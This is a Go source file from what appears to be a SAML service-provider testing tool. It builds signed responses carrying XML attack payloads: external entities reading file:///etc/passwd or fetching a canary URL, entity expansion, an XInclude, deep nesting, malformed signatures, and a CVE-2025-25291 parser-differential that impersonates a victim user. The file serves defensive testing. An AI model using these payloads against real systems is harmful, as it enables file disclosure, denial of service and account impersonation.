package mockidp

import (
	"bytes"
	"fmt"
	"regexp"
	"strings"

	"github.com/beevik/etree"
	dsig "github.com/russellhaering/goxmldsig"
)

// xmlDecl matches the XML declaration the built response starts with.
var xmlDecl = regexp.MustCompile(`^\s*<\?xml[^>]*\?>\s*`)

// withDoctype inserts decl after the XML declaration (at the start when
// there is none).
func withDoctype(b []byte, decl string) []byte {
	at := 0
	if loc := xmlDecl.FindIndex(b); loc != nil {
		at = loc[1]
	}
	return splice(b, at, at, decl+"\n")
}

// doctypeMutation is a RawBytes mutation that rewrites the raw NameID
// text old with text(old) and adds the declaration decl(old).
func doctypeMutation(name string, decl, text func(old string) string) Mutation {
	return Mutation{Name: name, Stage: RawBytes, Raw: func(b []byte) []byte {
		loc := nameIDText.FindSubmatchIndex(b)
		if loc == nil {
			return b
		}
		old := string(b[loc[2]:loc[3]])
		b = splice(b, loc[2], loc[3], text(old))
		return withDoctype(b, decl(old))
	}}
}

// fixed is a declaration that does not depend on the NameID.
func fixed(decl string) func(string) string { return func(string) string { return decl } }

// entityValue makes raw XML text safe inside a quoted entity value.
func entityValue(s string) string {
	return strings.NewReplacer(`"`, "&#34;", "%", "&#37;").Replace(s)
}

// systemLiteral makes a URL safe inside a double-quoted system literal.
func systemLiteral(u string) string {
	return strings.ReplaceAll(u, `"`, "%22")
}

// parser builds an X case over the signed baseline.
func parser(id, variant, title string, references []string, m Mutation) Attack {
	return Attack{ID: id, Variant: variant, Title: title, References: references, Oracle: OracleRejects,
		Mutations: []Mutation{signWith(SignAssertion), m}}
}

// InternalEntity is X01 in its internal form (Keycloak SamlXMLAttacksTest):
// a DOCTYPE declares an internal entity whose replacement text is the
// signed NameID, and the NameID's text becomes a reference to it. A parser
// that expands entities sees the same signed document; any DOCTYPE must be
// refused.
func InternalEntity() Attack {
	return parser("X01", "internal", "DOCTYPE with an internal entity standing for the signed NameID",
		[]string{"Keycloak SamlXMLAttacksTest", "OWASP XXE Prevention Cheat Sheet"},
		doctypeMutation("doctype-internal-entity",
			func(old string) string {
				return `<!DOCTYPE samlp:Response [<!ENTITY provcheckNameID "` + entityValue(old) + `">]>`
			},
			func(string) string { return "&provcheckNameID;" }))
}

// ExternalEntityFile is X01 (CVE-2021-27736, FusionAuth; Keycloak
// SamlXMLAttacksTest): a DOCTYPE with an external entity SYSTEM
// "file:///etc/passwd", referenced at the end of the NameID. No file
// contents may be reflected.
func ExternalEntityFile() Attack {
	return parser("X01", "file", "external entity file:///etc/passwd referenced in NameID",
		[]string{"CVE-2021-27736", "Keycloak SamlXMLAttacksTest"},
		doctypeMutation("doctype-external-file",
			fixed(`<!DOCTYPE samlp:Response [<!ENTITY provcheckXXE SYSTEM "file:///etc/passwd">]>`),
			func(old string) string { return old + "&provcheckXXE;" }))
}

// ExternalEntityCanary is X02 in its general-entity form (SAMLRaider "Test
// XXE"): an external entity SYSTEM canary (a per-case URL of the
// out-of-band listener), referenced in the NameID. A fetch of canary is the
// finding.
func ExternalEntityCanary(canary string) Attack {
	return parser("X02", "general", "external entity to the canary URL referenced in NameID",
		[]string{"SAMLRaider Test XXE", "OWASP XXE Prevention Cheat Sheet"},
		doctypeMutation("doctype-external-canary",
			fixed(`<!DOCTYPE samlp:Response [<!ENTITY provcheckXXE SYSTEM "`+systemLiteral(canary)+`">]>`),
			func(old string) string { return old + "&provcheckXXE;" }))
}

// ParameterEntityCanary is X02 (SAMLRaider "Test XXE"): a parameter entity
// SYSTEM canary expanded inside the DTD, so a parser fetches it while
// reading the DOCTYPE, before any element. A fetch of canary is the
// finding. The body is the signed baseline, untouched: Go's encoding/xml
// skips the DTD, so gosaml2 v0.12.0 accepts it (OracleGap); an SP must
// refuse any DOCTYPE.
func ParameterEntityCanary(canary string) Attack {
	decl := `<!DOCTYPE samlp:Response [<!ENTITY % provcheckXXE SYSTEM "` + systemLiteral(canary) + `"> %provcheckXXE;]>`
	a := parser("X02", "parameter", "parameter entity to the canary URL expanded in the DTD",
		[]string{"SAMLRaider Test XXE"},
		Mutation{Name: "doctype-parameter-canary", Stage: RawBytes, Raw: func(b []byte) []byte { return withDoctype(b, decl) }})
	a.Oracle = OracleGap
	return a
}

// EntityExpansion is X03 (Keycloak testXMLBombAttackResistance): nested
// entities, each referencing the previous ten times, levels deep (clamped
// to 1..5, so at most 3·10⁵ bytes expanded: a probe, not a bomb),
// referenced in the NameID. The SP must refuse quickly.
func EntityExpansion(levels int) Attack {
	levels = max(1, min(levels, 5))
	var dtd strings.Builder
	dtd.WriteString(`<!DOCTYPE samlp:Response [<!ENTITY lol0 "lol">`)
	for i := 1; i <= levels; i++ {
		fmt.Fprintf(&dtd, `<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	dtd.WriteString(`]>`)
	last := fmt.Sprintf("&lol%d;", levels)
	return parser("X03", "", fmt.Sprintf("entity expansion, %d levels of ten (bounded)", levels),
		[]string{"Keycloak testXMLBombAttackResistance", "billion laughs"},
		doctypeMutation("doctype-entity-expansion", fixed(dtd.String()), func(old string) string { return old + last }))
}

// ParserDifferential is S25 (CVE-2025-25291, ruby-saml; SAMLRaider
// CVE_2025_25291.java): the document starts with
// <!DOCTYPE response SYSTEM 'x"><!--'>, then the evil Response (the victim
// in its NameID) up to its end tag, then a CDATA section that holds the
// pristine signed Response, then the end tag. A conforming parser sees the
// evil document and the signed one as CDATA text; a parser that ends the
// DOCTYPE at the first '>' sees a comment, then the signed document.
// The build fails (a mutation that changes nothing) when the signed bytes
// cannot be parsed.
func ParserDifferential(v Victim) Attack {
	return Attack{ID: "S25", Title: "DOCTYPE SYSTEM 'x\"><!--' plus a CDATA sandwich: two parsers, two documents",
		References: []string{"CVE-2025-25291", "SAMLRaider CVE_2025_25291.java"}, Oracle: OracleRejects,
		Mutations: []Mutation{signWith(SignAssertion), {Name: "cve-2025-25291", Stage: RawBytes, Raw: func(b []byte) []byte {
			out, err := parserDifferential(b, v)
			if err != nil {
				return b
			}
			return out
		}}}}
}

// SplitParserDifferential returns the pristine signed document that a
// ParserDifferential response hides in its CDATA section, so a test or a
// report can show what the lenient parser sees.
func SplitParserDifferential(xml []byte) ([]byte, error) {
	start := bytes.Index(xml, []byte(cdataOpen))
	end := bytes.LastIndex(xml, []byte(cdataClose))
	if start < 0 || end < start {
		return nil, fmt.Errorf("split CVE-2025-25291 shape: no CDATA sandwich")
	}
	inner := xml[start+len(cdataOpen) : end]
	closeTag := xml[end+len(cdataClose):]
	return append(append(bytes.Clone(inner), bytes.TrimSpace(closeTag)...), '\n'), nil
}

const (
	cdataOpen  = "<![CDATA[-->\n"
	cdataClose = "<!--]]>-->\n"
)

func parserDifferential(signed []byte, v Victim) ([]byte, error) {
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(signed); err != nil {
		return nil, fmt.Errorf("parse signed response: %w", err)
	}
	root, err := response(doc)
	if err != nil {
		return nil, err
	}
	if err := impersonate(root, v); err != nil {
		return nil, err
	}
	doc.Child = []etree.Token{root}
	evil, err := doc.WriteToBytes()
	if err != nil {
		return nil, fmt.Errorf("serialise evil response: %w", err)
	}
	endTag := "</" + root.FullTag() + ">"
	original := xmlDecl.ReplaceAll(signed, nil)
	ei := bytes.LastIndex(evil, []byte(endTag))
	oi := bytes.LastIndex(original, []byte(endTag))
	if ei < 0 || oi < 0 {
		return nil, fmt.Errorf("no %s end tag", endTag)
	}
	var out bytes.Buffer
	out.WriteString("<!DOCTYPE response SYSTEM 'x\"><!--'>\n")
	out.Write(evil[:ei])
	out.WriteString(cdataOpen)
	out.Write(original[:oi])
	out.WriteString(cdataClose)
	out.WriteString(endTag)
	return out.Bytes(), nil
}

// XInclude is X04 (XInclude): an xi:include of href (a local file such as
// file:///etc/passwd, or the canary URL) in a samlp:Extensions element
// added after signing the assertion. The signature still holds, so the
// reference SP accepts (it ignores Extensions); what matters is that the
// SP never fetches or inlines href: no out-of-band hit, no file contents.
func XInclude(href string) Attack {
	return Attack{ID: "X04", Title: "xi:include in samlp:Extensions", References: []string{"W3C XInclude 1.0"},
		Oracle:        OracleAccepts,
		StillVerifies: []SignedPart{{Name: "the assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}},
		Mutations: []Mutation{signWith(SignAssertion), afterSigning("xinclude", func(doc *etree.Document) error {
			resp, err := response(doc)
			if err != nil {
				return err
			}
			ext := etree.NewElement("samlp:Extensions")
			inc := ext.CreateElement("xi:include")
			inc.CreateAttr("xmlns:xi", "http://www.w3.org/2001/XInclude")
			inc.CreateAttr("href", href)
			inc.CreateAttr("parse", "text")
			resp.InsertChildAt(schemaPosition(resp), ext)
			return nil
		})}}
}

// DeepNesting is X06 (goxmldsig commit a225617, node limits in C14N):
// depth nested elements (10⁵ in the catalogue) in a samlp:Extensions added
// after signing the assertion. The SP refuses under a limit, without
// crashing.
func DeepNesting(depth int) Attack {
	depth = max(1, depth)
	return Attack{ID: "X06", Title: fmt.Sprintf("%d nested elements in samlp:Extensions", depth),
		References: []string{"goxmldsig commit a225617", "CVE-2022-30633 (encoding/xml depth)"}, Oracle: OracleRejects,
		Mutations: []Mutation{signWith(SignAssertion), {Name: "deep-nesting", Stage: RawBytes, Raw: func(b []byte) []byte {
			at := bytes.Index(b, []byte("<samlp:Status>"))
			if at < 0 {
				return b
			}
			var s strings.Builder
			s.Grow(depth*7 + 40)
			s.WriteString("<samlp:Extensions>")
			s.WriteString(strings.Repeat("<d>", depth))
			s.WriteString(strings.Repeat("</d>", depth))
			s.WriteString("</samlp:Extensions>")
			return splice(b, at, at, s.String())
		}}}}
}

// Malformed is X07 (crewjam TestSPInvalidResponses; gosaml2
// TestMalFormedInput): what is "non-xml" (the bytes are not XML) or
// "wrong-root" (the root renamed samlp:LogoutResponse). The SP answers
// 4xx, not 5xx.
func Malformed(what string) Attack {
	return parser("X07", what, "malformed input: "+what,
		[]string{"crewjam TestSPInvalidResponses", "gosaml2 TestMalFormedInput"},
		Mutation{Name: "malformed-" + what, Stage: RawBytes, Raw: func(b []byte) []byte {
			switch what {
			case "non-xml":
				return []byte("provcheck: this is not XML <<<\x00")
			case "wrong-root":
				b = bytes.Replace(b, []byte("<samlp:Response "), []byte("<samlp:LogoutResponse "), 1)
				if i := bytes.LastIndex(b, []byte("</samlp:Response>")); i >= 0 {
					return splice(b, i, i+len("</samlp:Response>"), "</samlp:LogoutResponse>")
				}
			}
			return b
		}})
}

// MalformedSignature is X09 (CVE-2020-7731, gosaml2 < 0.7.0; goxmldsig
// validateShape): the assertion's ds:Signature loses its SignedInfo
// (what = "no-signedinfo") or its SignatureValue ("no-signaturevalue"),
// or carries two KeyInfo ("two-keyinfo"). The SP refuses, no panic.
func MalformedSignature(what string) Attack {
	return signatureEdit("X09", what, "malformed ds:Signature: "+what, OracleRejects,
		[]string{"CVE-2020-7731", "goxmldsig validateShape"}, func(sig *etree.Element) error {
			switch what {
			case "no-signedinfo", "no-signaturevalue":
				tag := dsig.SignedInfoTag
				if what == "no-signaturevalue" {
					tag = dsig.SignatureValueTag
				}
				el, err := dsChild(sig, tag)
				if err != nil {
					return err
				}
				sig.RemoveChild(el)
			case "two-keyinfo":
				ki, err := dsChild(sig, dsig.KeyInfoTag)
				if err != nil {
					return err
				}
				sig.AddChild(ki.Copy())
			default:
				return fmt.Errorf("unknown malformation %q (no-signedinfo, no-signaturevalue, two-keyinfo)", what)
			}
			return nil
		})
}
